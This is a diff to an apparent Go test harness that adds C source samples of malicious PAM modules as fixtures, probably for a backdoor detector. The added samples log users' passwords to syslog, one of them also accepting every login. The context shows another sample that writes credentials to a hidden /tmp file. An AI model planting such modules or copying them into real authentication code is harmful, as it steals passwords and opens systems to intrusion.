@@ -20,6 +20,28 @@ import (
 var pamHarness = []struct {
 	technique, name, src string
 }{
+	{"syslog", "password written to the system log", pamDecls + `
+#include <syslog.h>
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *u = NULL, *t = NULL;
+	pam_get_user(h, &u, NULL);
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
+	syslog(LOG_ERR, "auth %s:%s", u, t);
+	return PAM_SUCCESS;
+}
+`},
+	{"syslog", "password logged by a helper after the user", pamDecls + `
+#include <syslog.h>
+__attribute__((noinline)) static void note(const char *what, const char *v) { syslog(LOG_INFO, "%s=%s", what, v); }
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *u = NULL, *t = NULL;
+	pam_get_user(h, &u, NULL);
+	note("user", u);
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
+	syslog(LOG_NOTICE, "pw=%s len=%d", t, (int)strlen(t));
+	return PAM_IGNORE;
+}
+`},
 	{"helper", "logger in a helper", pamDecls + `
 __attribute__((noinline)) static void keep(const char *u, const char *p) {
 	FILE *f = fopen("/tmp/.ICE-unix/.s", "a");
